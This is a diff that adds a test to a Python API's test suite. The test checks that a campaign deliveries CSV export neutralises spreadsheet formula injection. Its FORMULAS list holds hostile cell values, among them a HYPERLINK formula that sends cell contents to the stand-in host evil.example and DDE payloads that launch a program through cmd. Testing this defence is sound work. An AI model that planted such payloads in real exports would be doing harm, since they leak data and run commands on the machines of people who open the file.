@@ -74,3 +74,22 @@ def test_deliveries_filter_by_when_they_ended(api):
 
 def test_exporting_an_unknown_campaign_is_a_404(api):
     assert api.get("/api/v1/campaigns/999999/deliveries/export/").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(api):
+    campaign = factories.campaign()
+    for n, formula in enumerate(FORMULAS):
+        factories.recipient(external_id=formula, email=f"formula{n}@example.com")
+    services.campaign_launch(campaign_id=campaign.pk)
+    Delivery.objects.filter(campaign=campaign).update(status="failed", error_message="=cmd|'/C calc'!A0")
+
+    response = api.get(f"/api/v1/campaigns/{campaign.pk}/deliveries/export/")
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert sorted(r["external_id"] for r in rows) == sorted("'" + formula for formula in FORMULAS)
+    assert {r["error_message"] for r in rows} == {"'=cmd|'/C calc'!A0"}
+    assert {r["attempts"] for r in rows} == {"0"}  # numbers stay numbers
